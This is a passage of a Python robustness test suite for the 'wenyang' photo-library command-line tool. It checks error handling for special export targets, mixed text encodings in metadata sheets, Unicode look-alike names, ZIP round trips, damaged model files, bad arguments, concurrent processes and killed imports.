        except OSError:
            b.skip(4, "character device", "refused", "mknod not allowed")
    else:
        b.skip(4, "character device", "refused", "not root")
    plan = []
    for what, target in targets:
        for fmt in ("csv", "json", "zip", "iiif", "research"):
            if b.options.quick and what != "FIFO" and fmt in ("json", "research"):
                continue
            plan.append((what, target, fmt))
    for what, target, fmt in plan:
        before = node_kind(target)
        run = b.cli("export", lib, "--all", "--format", fmt, "-o", target, timeout=30)
        after = node_kind(target)
        left = [p.name for p in target.parent.iterdir() if p.name.startswith(f".{target.name}.")]
        ok = run.rc == 1 and after == before and not left and no_traceback(run) and "not a regular file" in run.err
        b.row(4, f"export {fmt} -o {what}", "exit 1 'not a regular file'; node unchanged; no leftover",
              ok, f"rc={run.rc} {before}->{after} left={left} {run.first_err()}")
    # the other writers: search --export, labels export
    for argv, name in [(["search", lib, "--labels", "dragon", "--export", fifo, "--export-format", "csv"],
                        "search --export to a FIFO"),
                       (["labels", "export", lib, fifo, "--format", "json"], "labels export to a FIFO"),
                       (["labels", "export", lib, link, "--format", "paths"], "labels export to a symlink to /dev/null")]:
        target = Path(argv[5] if argv[0] == "search" else argv[3])
        before = node_kind(target)
        run = b.cli(*argv, timeout=30)
        after = node_kind(target)
        b.row(4, name, "exit 1 'not a regular file'; node unchanged",
              run.rc == 1 and before == after and no_traceback(run) and "not a regular file" in run.err,
              f"rc={run.rc} {before}->{after} {run.first_err()}")
    sock.close()
    b.row(4, "/dev/null after all of it", "still a character device", node_kind(Path("/dev/null")) == "chardev",
          node_kind(Path("/dev/null")))


# ------------------------------------------------------------------------------------------
# 5. metadata sheets
# ------------------------------------------------------------------------------------------
def class5(b: Bench) -> None:
    folder = b.folder("c5")
    photos = [b.photo(folder, f"s5_{i}.jpg", 500 + i) for i in range(3)]
    zh_titles = ["龙纹马面裙", "凤穿牡丹袄", "蝙蝠纹云肩"]
    counter = [0]

    def attempt(case: str, sheet: Path, expect_ok: bool, titles=None, mapping=(), must: str = "") -> None:
        counter[0] += 1
        lib, imp = b.library(f"c5-lib{counter[0]}", photos, sheet, extra=[a for m in mapping for a in ("--map", m)])
        items = b.items(lib)
        if expect_ok:
            got = sorted(i["title"] for i in items)
            want = sorted(titles) if titles else got
            ok = imp.rc == 0 and len(items) == len(photos) and got == want and no_traceback(imp)
            b.row(5, case, f"exit 0; titles {want[0]!r}…", ok, f"rc={imp.rc} items={len(items)} titles={got[:2]}")
        else:
            ok = imp.rc == 1 and not items and no_traceback(imp) and imp.err.startswith("wenyang:") and \
                (not must or must.lower() in imp.err.lower())
            b.row(5, case, f"exit 1, nothing imported{' (says ' + repr(must) + ')' if must else ''}", ok,
                  f"rc={imp.rc} items={len(items)} {imp.first_err()}")

    names = [p.name for p in photos]
    # duplicate column names
    attempt("duplicate 'title' columns", write_csv(folder / "dup1.csv", ["file", "title", "title"],
            [[n, "a", "b"] for n in names]), False, must="more than once")
    attempt("duplicate metadata column 'maker'", write_csv(folder / "dup2.csv", ["file", "title", "maker", "maker"],
            [[n, "t", "a", "b"] for n in names]), False, must="more than once")
    attempt("duplicate with spaces ('title', ' title ')", write_csv(folder / "dup3.csv", ["file", "title", " title "],
            [[n, "a", "b"] for n in names]), False)
    attempt("duplicate in a TSV sheet", write_csv(folder / "dup4.tsv", ["file", "note", "note"],
            [[n, "a", "b"] for n in names], delimiter="\t"), False)
    dup_json = folder / "dup5.json"
    dup_json.write_text("[" + ",".join(f'{{"file": "{n}", "title": "first", "title": "second"}}' for n in names)
                        + "]", encoding="utf-8")
    attempt("JSON sheet with a key twice in one object", dup_json, False)
    attempt("duplicate '文件名' in GB18030", write_csv(folder / "dup6.csv", ["文件名", "名称", "名称"],
            [[n, "甲", "乙"] for n in names], encoding="gb18030"), False)
    # encodings and byte-order marks
    zh_rows = [[n, t, "描述" + t] for n, t in zip(names, zh_titles)]
    attempt("GB18030 with the GB18030 BOM", write_csv(folder / "gbbom.csv", ["文件名", "名称", "描述"], zh_rows,
            encoding="gb18030", bom=b"\x84\x31\x95\x33"), True, zh_titles)
    attempt("UTF-8 BOM in front of GB18030 text", write_csv(folder / "u8gb.csv", ["文件名", "名称", "描述"], zh_rows,
            encoding="gb18030", bom=b"\xef\xbb\xbf"), True, zh_titles)
    attempt("GB18030 without BOM", write_csv(folder / "gb.csv", ["文件名", "名称", "描述"], zh_rows,
            encoding="gb18030"), True, zh_titles)
    tw_titles = ["龍紋馬面裙", "鳳穿牡丹襖", "蝙蝠紋雲肩"]
    attempt("Big5 (traditional headers)", write_csv(folder / "big5.csv", ["檔名", "名稱", "說明"],
            [[n, t, "說明"] for n, t in zip(names, tw_titles)], encoding="big5"), True, tw_titles)
    attempt("UTF-16 with BOM, tab separated", write_csv(folder / "u16.tsv", ["文件名", "名称"],
            [[n, t] for n, t in zip(names, zh_titles)], encoding="utf-16", delimiter="\t"), True, zh_titles)
    attempt("GB18030 BOM + a GB18030 header only 'file' key mapped", write_csv(
        folder / "gbmap.csv", ["图号", "名称"], [[n, t] for n, t in zip(names, zh_titles)], encoding="gb18030",
        bom=b"\x84\x31\x95\x33"), True, zh_titles, mapping=["图号=file"])
    # sheets that match no photo, or cannot be understood
    attempt("sheet naming other files only", write_csv(folder / "other.csv", ["file", "title"],
            [[f"elsewhere_{i}.jpg", "t"] for i in range(3)]), False, must="names none")
    attempt("sheet with accessions matching no photo", write_csv(folder / "acc.csv", ["accession", "title"],
            [[f"ZZ-{i}", "t"] for i in range(3)]), False)
    attempt("sheet with a header only", write_csv(folder / "empty.csv", ["file", "title"], []), False)
    attempt("header not understood (no file/accession column)", write_csv(folder / "nohead.csv",
            ["foo", "bar"], [[n, "x"] for n in names]), False)
    attempt("GB18030 sheet misread as Latin (header 'Ã¦â€“â€¡')", write_csv(
        folder / "mojibake.csv", ["æ–‡ä»¶å", "åç§°"], [[n, "x"] for n in names]), False)


# ------------------------------------------------------------------------------------------
# 6. look-alike names
# ------------------------------------------------------------------------------------------
def class6(b: Bench) -> None:
    folder = b.folder("c6")
    lib, _ = b.library("c6-lib")
    nfc = lambda s: unicodedata.normalize("NFC", s)  # noqa: E731
    nfd = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731
    pairs = [
        ("NFC then NFD (Café)", [nfc("Café")], [nfd("Café")], ["--facet", "category"]),
        ("NFD then NFC (Noël)", [nfd("Noël")], [nfc("Noël")], ["--facet", "category"]),
        ("zh: unified 朗 then compatibility U+F929", ["Lang A", "--zh", "\u6717"], ["Lang B", "--zh", "\uf929"],
         ["--facet", "motif"]),
        ("zh: compatibility U+FA10 then unified 塚", ["Grave A", "--zh", "\ufa10"], ["Grave B", "--zh", "\u585a"],
         ["--facet", "motif"]),
        ("full-width Latin (Ｓｉｌｋ vs Silk)", ["Silk"], ["Ｓｉｌｋ"], ["--facet", "category"]),
        ("full-width vs existing Dragon", ["Ｄｒａｇｏｎ"], None, ["--parent", "animal"]),
        ("case and spacing ('velvet  LOOP' vs 'Velvet loop')", ["Velvet loop"], ["velvet  LOOP"], ["--facet", "category"]),
        ("ligature ﬁ (ﬁsh scale vs fish scale)", ["fish scale"], ["\ufb01sh scale"], ["--facet", "motif"]),
    ]
    for name, first, second, where in pairs:
        if first and second is not None:
            r1 = b.cli("labels", "add", lib, *first, *where)
            r2 = b.cli("labels", "add", lib, *second, *where)
        else:
            r1 = Run([], 0, b"", b"", 0)
            r2 = b.cli("labels", "add", lib, *first, *where)
        ok = r1.rc == 0 and r2.rc == 1 and "already exists" in r2.err and no_traceback(r2)
        b.row(6, f"label {name}", "first added, second refused 'already exists'", ok,
              f"rc={r1.rc},{r2.rc} {r2.first_err() if r2.rc else r2.out}")
    # rename onto a look-alike
    b.cli("labels", "add", lib, "Gossamer weave", "--facet", "category")
    b.cli("labels", "add", lib, "Tabby weave", "--facet", "category")
    r = b.cli("labels", "rename", lib, "Tabby weave", "--en", "ＧＯＳＳＡＭＥＲ  weave")
    b.row(6, "label rename onto a full-width look-alike", "refused 'already exists', exit 1",
          r.rc == 1 and "already exists" in r.err and no_traceback(r),
          f"rc={r.rc} {r.first_err() if r.rc else r.out}")
    # accession numbers
    photos = [b.photo(folder, f"a6_{i}.jpg", 600 + i) for i in range(8)]
    acc_pairs = [
        ("NFC vs NFD (Café-001)", nfc("Café-001"), nfd("Café-001")),
        ("unified vs compatibility ideograph (朗-7 / U+F929-7)", "\u6717-7", "\uf929-7"),
        ("NFD vs NFC Hangul (한복-3)", nfd("한복-3"), nfc("한복-3")),
        ("outer spaces (' K-9 ' vs 'K-9')", " K-9 ", "K-9"),
    ]
    for n, (name, a, c) in enumerate(acc_pairs):
        p1, p2 = photos[2 * n], photos[2 * n + 1]
        s1 = write_csv(folder / f"acc{n}a.csv", ["file", "accession", "title"], [[p1.name, a, "first"]])
        s2 = write_csv(folder / f"acc{n}b.csv", ["file", "accession", "title"], [[p2.name, c, "second"]])
        i1 = b.cli("import", lib, p1, "--metadata", s1, "-q")
        i2 = b.cli("import", lib, p2, "--metadata", s2, "-q")
        matching = [it for it in b.items(lib) if unicodedata.normalize("NFC", it["accession"]).strip() ==
                    unicodedata.normalize("NFC", c).strip()]
        shown = b.show_json(lib, a)
        ok = (i1.rc == 0 and i2.rc == 0 and len(matching) == 1 and len(matching[0]["photos"]) == 2
              and shown is not None and shown["id"] == matching[0]["id"])
        b.row(6, f"accession {name}", "one item with both photos; show finds it by either form", ok,
              f"rc={i1.rc},{i2.rc} items={len(matching)} photos={[len(m['photos']) for m in matching]} "
              f"show={'found' if shown else 'not found'}")
    # tag by the other form
    t = b.cli("tag", lib, nfd("Café-001"), "-l", "dragon")
    b.row(6, "tag by the NFD accession", "exit 0, tags the NFC item", t.rc == 0, f"rc={t.rc} {t.first_err()}")
    # collections
    for name, first, second, probe in [("NFC then NFD (Exposé)", nfc("Exposé"), nfd("Exposé"), "Expos"),
                                       ("unified 朗 then compatibility U+F929", "\u6717 show", "\uf929 show", "show")]:
        c1 = b.cli("collections", "create", lib, first)
        c2 = b.cli("collections", "create", lib, second)
        lst = b.cli("collections", "list", lib)
        count = sum(1 for line in lst.out.splitlines() if probe in line)
        b.row(6, f"collection {name}", "one collection; the second refused or merged",
              c1.rc == 0 and c2.rc in (0, 1) and count == 1 and no_traceback(c2),
              f"rc={c1.rc},{c2.rc} listed={count} {c2.first_err() or c2.out.strip()}")


# ------------------------------------------------------------------------------------------
# 7. ZIP packages
# ------------------------------------------------------------------------------------------
def class7(b: Bench) -> None:
    folder = b.folder("c7")
    photos = [b.photo(folder, f"p7_{i}.jpg", 700 + i) for i in range(4)]
    rnd = random.Random(7)
    long_rep = "龙纹" * 1_000_000                       # 2,000,000 characters, compresses ~1000:1
    long_rnd = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(2_000_000))
    long_meta = "=" + "x" * 1_499_999
    rows = [[photos[0].name, "LONG-REP", "repetitive", long_rep, ""],
            [photos[1].name, "LONG-RND", "random letters", long_rnd, ""],
            [photos[2].name, "LONG-META", "long metadata", "short", long_meta],
            [photos[3].name, "NORMAL", "normal", "normal", "n"]]
    sheet = write_csv(folder / "sheet.csv", ["file", "accession", "title", "description", "note"], rows)
    lib, imp = b.library("c7-lib", photos, sheet)
    if not b.row(7, "import a sheet with 2,000,000-character cells", "exit 0, 4 items",
                 imp.rc == 0 and len(b.items(lib)) == 4, f"rc={imp.rc} {imp.first_err()}"):
        return
    pkg = folder / "pkg.zip"
    exp = b.cli("export", lib, "--all", "--format", "zip", "-o", pkg, timeout=300)
    if not b.row(7, "export the library as ZIP", "exit 0", exp.rc == 0, f"rc={exp.rc} {exp.first_err()}"):
        return
    lib2, _ = b.library("c7-lib2")
    imp2 = b.cli("import", lib2, pkg, "-q", timeout=300)
    b.row(7, "import that ZIP into a new library", "exit 0, 4 of 4 items", imp2.rc == 0 and "Imported 4 of 4" in imp2.out,
          f"rc={imp2.rc} {imp2.first_err() if imp2.rc else imp2.out.splitlines()[0] if imp2.out else ''}")
    digest = lambda s: hashlib.sha256(s.encode()).hexdigest()[:12]  # noqa: E731
    for acc, field_name, value in [("LONG-REP", "description", long_rep), ("LONG-RND", "description", long_rnd),
                                   ("LONG-META", "metadata.note", long_meta), ("NORMAL", "title", "normal")]:
        got = b.show_json(lib2, acc)
        if got is None:
            b.row(7, f"{acc} comes back", "equal", False, "missing")
            continue
        have = got["metadata"].get("note", "") if field_name.startswith("metadata") else got[field_name]
        original = b.show_json(lib, acc)
        same_photos = original and [p["sha256"] for p in got["photos"]] == [p["sha256"] for p in original["photos"]]
        b.row(7, f"{acc}: {field_name} ({len(value):,} chars) round trip", "equal text and photos",
              have == value and bool(same_photos), f"len {len(have):,}, sha {digest(have)} vs {digest(value)}, "
                                                   f"photos {'same' if same_photos else 'differ'}")
    # README states the limits
    with zipfile.ZipFile(pkg) as z:
        readme = z.read("README.txt").decode("utf-8", "replace") if "README.txt" in z.namelist() else ""
    b.row(7, "package README states the text limit", "mentions 10,000,000 characters",
          "10,000,000" in readme or "10000000" in readme, "found" if "10,000,000" in readme else readme[:80])
    # an item with no photo in a package
    bare = folder / "bare.zip"
    with zipfile.ZipFile(pkg) as src, zipfile.ZipFile(bare, "w", zipfile.ZIP_DEFLATED) as dst:
        doc = json.loads(src.read("metadata.json"))
        dropped = []
        for item in doc["items"]:
            if item["accession"] == "NORMAL":
                dropped = [p["file"] for p in item.get("photos", [])]
                item["photos"] = []
        for info in src.infolist():
            if info.filename in dropped:
                continue
            data = json.dumps(doc, ensure_ascii=False).encode() if info.filename == "metadata.json" else src.read(info)
            dst.writestr(info.filename, data)
    lib3, _ = b.library("c7-lib3")
    imp3 = b.cli("import", lib3, bare, "-q", timeout=300)
    got = b.show_json(lib3, "NORMAL")
    b.row(7, "package item with no photos", "imported and reported ('no photo')",
          imp3.rc in (0, 3) and "no photo" in imp3.out and got is not None and not got["photos"],
          f"rc={imp3.rc} " + "; ".join(l for l in imp3.out.splitlines() if "photo" in l.lower())[:100])
    # photos that compress far better than any photo (uniform BMP / uncompressed TIFF): the
    # export must not write a package its own import refuses as a zip bomb
    flat = folder / "flat"
    flat.mkdir()
    Image.new("RGB", (1200, 900), (250, 250, 250)).save(flat / "white.bmp")
    Image.new("RGB", (1200, 900), (10, 20, 30)).save(flat / "dark.tif")
    lib5, imp5 = b.library("c7-flat", sorted(flat.iterdir()))
    pkg5 = folder / "flat.zip"
    exp5 = b.cli("export", lib5, "--all", "--format", "zip", "-o", pkg5)
    lib6, _ = b.library("c7-flat2")
    imp6 = b.cli("import", lib6, pkg5, "-q") if exp5.rc == 0 else exp5
    b.row(7, "uniform 1200×900 BMP + raw TIFF (compress ~1000:1) via ZIP",
          "export exit 0 and import exit 0 with both photos (or export refuses)",
          imp5.rc == 0 and no_traceback(imp6) and ((exp5.rc == 0 and imp6.rc == 0 and len(b.items(lib6)) == 2)
                                                    or (exp5.rc == 1 and exp5.err.startswith("wenyang:"))),
          f"export rc={exp5.rc}, import rc={imp6.rc} {imp6.first_err()}")
    # a description past the stated limit is refused by the sheet, not half-imported
    over = "y" * 10_000_001
    sheet_over = write_csv(folder / "over.csv", ["file", "accession", "description"], [[photos[0].name, "OVER", over]])
    lib4, imp4 = b.library("c7-lib4", [photos[0]], sheet_over)
    n4 = len(b.items(lib4))
    b.row(7, "sheet cell of 10,000,001 characters", "refused with a message, or stored whole (never cut)",
          no_traceback(imp4) and ((imp4.rc == 1 and n4 == 0) or (imp4.rc == 0 and n4 == 1 and
                                  len((b.show_json(lib4, 'OVER') or {}).get('description', '')) == len(over))),
          f"rc={imp4.rc} items={n4} {imp4.first_err()}")


# ------------------------------------------------------------------------------------------
# 8. damaged model files
# ------------------------------------------------------------------------------------------
LOAD_MODEL = """
import sys
from app.runtime.model import load_model
from app.core.errors import ModelMismatchError
try:
    load_model(sys.argv[1])
except ModelMismatchError as exc:
    print("ModelMismatchError:", exc)
except Exception as exc:
    print("OTHER", type(exc).__name__, exc)
else:
    print("LOADED")
"""


def damage(path: Path, how: str) -> None:
    data = path.read_bytes()
    if how == "empty":
        path.write_bytes(b"")
    elif how == "truncated":
        path.write_bytes(data[: len(data) // 2])
    elif how == "garbage":
        path.write_bytes(np.random.default_rng(8).integers(0, 256, len(data), dtype=np.uint8).tobytes())
    elif how == "one byte":
        path.write_bytes(data[:1])


def class8(b: Bench) -> None:
    folder = b.folder("c8")
    # via the runtime API (a bare model folder)
    ids = [f"l{i}" for i in range(6)]
    for how in ("empty", "truncated", "garbage", "one byte"):
        model = folder / f"api-{how.replace(' ', '-')}"
        write_fake_model(model, ids, "f" * 16)
        damage(model / "label.onnx", how)
        run = b.py(LOAD_MODEL, model)
        ok = run.out.startswith("ModelMismatchError:") and "label.onnx" in run.out and no_traceback(run)
        b.row(8, f"load_model, {how} label.onnx", "ModelMismatchError naming label.onnx", ok, run.out or run.err)
    model = folder / "api-labels"
    write_fake_model(model, ids, "f" * 16)
    card = json.loads((model / "card.json").read_text())
    card["label_ids"] = ids[:-1]
    (model / "card.json").write_text(json.dumps(card))
    run = b.py(LOAD_MODEL, model)
    b.row(8, "load_model, card lists one label fewer than the network", "ModelMismatchError",
          run.out.startswith("ModelMismatchError:"), run.out or run.err)
    # through the CLI, on a library whose active model is damaged
    base = b.model_library()
    query = b.photo(folder, "q.jpg", 801)
    # (name, change, what the message names, strict): strict damage is found when the model
    # loads, so every command stops with one line; a structural mismatch may pass unnoticed by
    # commands that never run the network, but must never end in a traceback
    variants = [
        ("empty label.onnx", lambda m: damage(m / "label.onnx", "empty"), "label.onnx"),
        ("truncated image.onnx", lambda m: damage(m / "image.onnx", "truncated"), "image.onnx"),
        ("garbage text.onnx", lambda m: damage(m / "text.onnx", "garbage"), "text.onnx"),
        ("card: one label fewer than network", lambda m: edit_card(m, lambda c: c.update(label_ids=c["label_ids"][:-1])), ""),
        ("card: vocabulary one term longer", lambda m: edit_card(m, lambda c: c["vocabulary"].update(
            terms=c["vocabulary"]["terms"] + ["extra"], df=c["vocabulary"]["df"] + [1],
            idf=c["vocabulary"]["idf"] + [1.0], fingerprint=hashlib.sha256("\n".join(
                c["vocabulary"]["terms"] + ["extra"]).encode()).hexdigest()[:16])), ""),
        ("card.json is not JSON", lambda m: (m / "card.json").write_text("{not json"), "card"),
        ("label.onnx missing", lambda m: (m / "label.onnx").unlink(), "label.onnx"),
        ("Identity-graph label.onnx (no 'h' output)",
         lambda m: (m / "label.onnx").write_bytes(onnx_identity(len(json.loads((m / 'card.json').read_text())['label_ids']))), ""),
        ("card input 'y', network input 'x'",
         lambda m: edit_card(m, lambda c: c["networks"]["label"].update(input="y")), ""),
    ]
    commands = [("search --text", lambda lib: ["search", lib, "--text", "red dragon"]),
                ("search --labels", lambda lib: ["search", lib, "--labels", "dragon"]),
                ("search --image", lambda lib: ["search", lib, "--image", query]),
                ("encode", lambda lib: ["encode", lib])]
    structural = {"Identity-graph label.onnx (no 'h' output)", "card input 'y', network input 'x'"}
    for n, (name, change, names) in enumerate(variants):
        lib = b.copy_library(base, f"c8-lib{n}")
        b.cli("tag", lib, "M-2", "-l", "phoenix")  # so that encode has label codes to redo
        change(lib / "models" / "fake-1")
        for cname, argv in commands:
            if b.options.quick and cname == "search --image" and n not in (1, 7):
                continue
            run = b.cli(*argv(lib))
            lines = [l for l in run.err.splitlines() if l.strip()]
            one_line = (run.rc == 1 and no_traceback(run) and len(lines) == 1 and lines[0].startswith("wenyang:")
                        and (not names or names in lines[0]))
            if name in structural:
                ok = one_line or (run.rc == 0 and no_traceback(run))
                expected = "exit 1 one 'wenyang:' line, or 0 if unused; no traceback"
            else:
                ok = one_line
                expected = f"exit 1, one 'wenyang:' line{' naming ' + names if names else ''}"
            b.row(8, f"{name}: {cname}", expected,
                  ok, f"rc={run.rc} {'TRACEBACK ' if not no_traceback(run) else ''}{run.first_err()}")


def edit_card(model: Path, change) -> None:
    card = json.loads((model / "card.json").read_text(encoding="utf-8"))
    change(card)
    (model / "card.json").write_text(json.dumps(card, ensure_ascii=False), encoding="utf-8")


# ------------------------------------------------------------------------------------------
# 9. CLI arguments
# ------------------------------------------------------------------------------------------
def class9(b: Bench) -> None:
    folder = b.folder("c9")
    lib = b.model_library()
    query = b.photo(folder, "q.jpg", 901)
    tiny = folder / "one.png"
    Image.new("RGB", (1, 1), (200, 10, 10)).save(tiny)
    text_file = folder / "not-a-photo.jpg"
    text_file.write_text("hello")
    out = folder / "x.csv"
    cases = [
        ("search -k 0", ["search", lib, "--labels", "dragon", "-k", "0"]),
        ("search -k -3", ["search", lib, "--labels", "dragon", "-k", "-3"]),
        ("search -k abc", ["search", lib, "--labels", "dragon", "-k", "abc"]),
        ("search -k 1e9", ["search", lib, "--labels", "dragon", "-k", "1000000000"]),
        ("search --weight 2", ["search", lib, "--like", "M-0", "--add", "phoenix", "--weight", "2"]),
        ("search --weight nan", ["search", lib, "--like", "M-0", "--add", "phoenix", "--weight", "nan"]),
        ("search --weight -0.1", ["search", lib, "--like", "M-0", "--add", "phoenix", "--weight", "-0.1"]),
        ("search --region zero width", ["search", lib, "--image", query, "--region", "0", "0", "0", "10"]),
        ("search --region 1×1 px", ["search", lib, "--image", query, "--region", "3", "3", "1", "1"]),
        ("search --region negative size", ["search", lib, "--image", query, "--region", "10", "10", "-5", "-5"]),
        ("search --region outside the photo", ["search", lib, "--image", query, "--region", "1000", "1000", "10", "10"]),
        ("search --region on a 1×1 photo", ["search", lib, "--image", tiny, "--region", "0", "0", "2", "2"]),
        ("search --region without --image", ["search", lib, "--text", "dragon", "--region", "0", "0", "5", "5"]),
        ("search --region x", ["search", lib, "--image", query, "--region", "a", "0", "5", "5"]),
        ("search --image missing file", ["search", lib, "--image", folder / "nope.jpg"]),
        ("search --image not a photo", ["search", lib, "--image", text_file]),
        ("search --like unknown item", ["search", lib, "--like", "NO-SUCH"]),
        ("search --add without --like", ["search", lib, "--text", "x", "--add", "dragon"]),
        ("search --understood without --text", ["search", lib, "--labels", "dragon", "--understood", "red"]),
        ("search --labels unknown label", ["search", lib, "--labels", "no-such-label"]),
        ("ls --limit -1", ["ls", lib, "--limit", "-1"]),
        ("ls --limit x", ["ls", lib, "--limit", "x"]),
        ("ls --label unknown", ["ls", lib, "--label", "no-such-label"]),
        ("show unknown item", ["show", lib, "NO-SUCH"]),
        ("tag unknown label", ["tag", lib, "M-0", "-l", "no-such-label"]),
        ("train --epochs 0", ["train", lib, "--epochs", "0"]),
        ("train --epochs -1", ["train", lib, "--epochs", "-1"]),
        ("train --bits 7", ["train", lib, "--bits", "7"]),
        ("train --image-size 0", ["train", lib, "--image-size", "0"]),
        ("demo --count 0", ["demo", folder / "demo", "--count", "0"]),
        ("demo --count -5", ["demo", folder / "demo", "--count", "-5"]),
        ("export --resize 0", ["export", lib, "--all", "--format", "zip", "--resize", "0", "-o", folder / "r.zip"]),
        ("export --seed -1", ["export", lib, "--all", "--format", "research", "--seed", "-1", "-o", folder / "rs"]),
        ("export --vocabulary 0", ["export", lib, "--all", "--format", "research", "--vocabulary", "0", "-o", folder / "rv"]),
        ("export --query 0", ["export", lib, "--all", "--format", "research", "--query", "0", "-o", folder / "rq"]),
        ("export --items unknown", ["export", lib, "--items", "NO-SUCH", "-o", out]),
        ("export to an unknown suffix", ["export", lib, "--all", "-o", folder / "x.xyz"]),
        ("import --map without '='", ["import", lib, query, "--map", "title"]),
        ("import --map to an unknown field", ["import", lib, query, "--metadata",
                                              write_csv(folder / "m.csv", ["file", "t"], [["q.jpg", "x"]]),
                                              "--map", "t=colour"]),
        ("import --metadata missing file", ["import", lib, query, "--metadata", folder / "none.csv"]),
        ("ls on a folder that is no library", ["ls", folder]),
        ("init on a path that is a file", ["init", text_file]),
        ("models activate unknown", ["models", "activate", lib, "no-such-model"]),
        ("encode --model unknown", ["encode", lib, "--model", "no-such-model"]),
    ]
    for name, argv in cases:
        run = b.cli(*argv, timeout=60)
        lines = [l for l in run.err.splitlines() if l.strip()]
        if run.rc == 2:
            ok = bool(lines) and "error" in lines[-1] and no_traceback(run)
        else:
            ok = run.rc == 1 and len(lines) == 1 and lines[0].startswith("wenyang:") and no_traceback(run)
        b.row(9, name, "exit 1 or 2, one 'wenyang:'/'error' line, no traceback", ok,
              f"rc={run.rc} {'TRACEBACK ' if not no_traceback(run) else ''}{(lines or [''])[-1]}")


# ------------------------------------------------------------------------------------------
# 10. two processes at once
# ------------------------------------------------------------------------------------------
IMPORTED = re.compile(r"Imported (\d+) new items")


def shared_photos(b: Bench) -> list[Path]:
    n = b.options.photos
    if n not in b._photo_cache:
        b._photo_cache[n] = b.photos(b.root / f"photos-{n}", "c", n, 10_000)
    return b._photo_cache[n]


def class10(b: Bench) -> None:
    photos = shared_photos(b)
    n = len(photos)
    folder = photos[0].parent
    runs = []
    for r in range(b.options.repeat):
        runs.append((f"run {r + 1}: same order", "same"))
        runs.append((f"run {r + 1}: opposite orders", "reversed"))
    if b.options.quick:
        runs = runs[:2]
    for name, order in runs:
        lib, _ = b.library(f"c10-{len(b.rows)}")
        second = photos if order == "same" else list(reversed(photos))
        p1 = b.popen("import", lib, folder, "-q")
        p2 = b.popen("import", lib, *second, "-q")
        (o1, e1), (o2, e2) = p1.communicate(timeout=900), p2.communicate(timeout=900)
        facts = sqlite_facts(lib)
        got = [int(m.group(1)) if (m := IMPORTED.search(o.decode())) else -1 for o in (o1, o2)]
        ok = (p1.returncode == 0 and p2.returncode == 0 and facts["photos"] == n and facts["distinct"] == n
              and facts["items"] == n and facts["integrity"] == "ok" and sum(got) == n)
        b.row(10, f"two imports of {n} photos, {name}", f"exit 0,0; {n} photos once; counts sum to {n}; integrity ok",
              ok, f"rc={p1.returncode},{p2.returncode} imported={got} photos={facts['photos']} "
                  f"distinct={facts['distinct']} items={facts['items']} {facts['integrity']} "
                  f"{(e1 + e2).decode(errors='replace').strip()[:80]}")
    # two imports with the same sheet: titles, no duplicate accession
    few = photos[:60]
    sheet = write_csv(b.root / "c10-sheet.csv", ["file", "accession", "title", "labels"],
                      [[p.name, f"ACC-{i:03d}", f"title {i}", "dragon"] for i, p in enumerate(few)])
    lib, _ = b.library("c10-sheet")
    p1 = b.popen("import", lib, *few, "--metadata", sheet, "-q")
    p2 = b.popen("import", lib, *reversed(few), "--metadata", sheet, "-q")
    (o1, e1), (o2, e2) = p1.communicate(timeout=600), p2.communicate(timeout=600)
    facts = sqlite_facts(lib)
    titled = sum(1 for it in b.items(lib) if it["title"].startswith("title "))
    b.row(10, "two imports with one sheet (60 photos)", "exit 0,0; 60 items, 60 accessions, all titled",
          p1.returncode == 0 and p2.returncode == 0 and facts["items"] == 60 and facts["accessions"] == 60
          and titled == 60 and facts["integrity"] == "ok",
          f"rc={p1.returncode},{p2.returncode} items={facts['items']} titled={titled} {facts['integrity']} "
          f"{(e1 + e2).decode(errors='replace').strip()[:80]}")
    # an import while another process tags
    lib, _ = b.library("c10-tag")
    first = b.cli("import", lib, *few, "-q")
    more = photos[60:min(n, 260)]
    imp = b.popen("import", lib, *more, "-q")
    tag_rcs = []
    for i in range(6):
        run = b.cli("tag", lib, *[f"c{j:04d}" for j in range(i * 10, i * 10 + 10)], "-l", "phoenix")
        tag_rcs.append(run.rc)
    o, e = imp.communicate(timeout=600)
    facts = sqlite_facts(lib)
    tagged = sum(1 for it in b.items(lib) if "phoenix" in it["labels"])
    b.row(10, "tag 60 items while another process imports", "all exit 0; nothing lost",
          first.rc == 0 and imp.returncode == 0 and set(tag_rcs) == {0} and tagged == 60
          and facts["items"] == len(few) + len(more) and facts["integrity"] == "ok",
          f"import rc={imp.returncode} tag rcs={tag_rcs} tagged={tagged} items={facts['items']} {facts['integrity']}")
    # the same new label from two processes at once
    lib, _ = b.library("c10-label")
    procs = [b.popen("labels", "add", lib, "Kesi silk", "--facet", "category") for _ in range(2)]
    outs = [p.communicate(timeout=120) for p in procs]
    rcs = sorted(p.returncode for p in procs)
    lst = b.cli("labels", "list", lib)
    count = sum(1 for line in lst.out.splitlines() if "Kesi silk" in line)
    b.row(10, "labels add of one name by two processes", "one added (0), one refused (1); listed once",
          rcs == [0, 1] and count == 1 and all(b"Traceback" not in o + e for o, e in outs),
          f"rcs={rcs} listed={count} {outs[0][1].decode(errors='replace').strip()[:60]}"
          f"{outs[1][1].decode(errors='replace').strip()[:60]}")


# ------------------------------------------------------------------------------------------
# 11. leftovers after a kill
# ------------------------------------------------------------------------------------------
def host_tag_host() -> str:
    return re.sub(r"[^A-Za-z0-9.\-]", "_", socket.gethostname()) or "host"


def dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    pid = proc.pid
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return pid
    return 2 ** 22 - 7  # above the usual pid_max range


def item_count(lib: Path) -> int:
    try:
        conn = sqlite3.connect(f"file:{lib / 'library.sqlite'}?mode=ro", uri=True, timeout=0.2)
        try:
            return conn.execute("SELECT COUNT(*) FROM items").fetchone()[0]
        finally:
            conn.close()
    except sqlite3.Error:
        return 0


def kill_when(proc: subprocess.Popen, ready, timeout: float = 120) -> bool:
    """SIGKILL ``proc`` as soon as ``ready()``; False when it ended before that."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if proc.poll() is not None:
            return False
        if ready():
            proc.send_signal(signal.SIGKILL)
            proc.wait()
            return True
        time.sleep(0.01)
    proc.kill()
    proc.wait()
    return True


def class11(b: Bench) -> None:
    photos = shared_photos(b)
    n = len(photos)
    folder = b.folder("c11")
    host, dead, live = host_tag_host(), dead_pid(), os.getpid()
    # a killed import (with copies), then the re-run
    lib, _ = b.library("c11-lib")
    proc = b.popen("import", lib, *photos, "--copy", "-q")
    killed = kill_when(proc, lambda: item_count(lib) >= 5)
    mid = item_count(lib)
    left_mid = parts_under(lib / "thumbnails", lib / "photos")
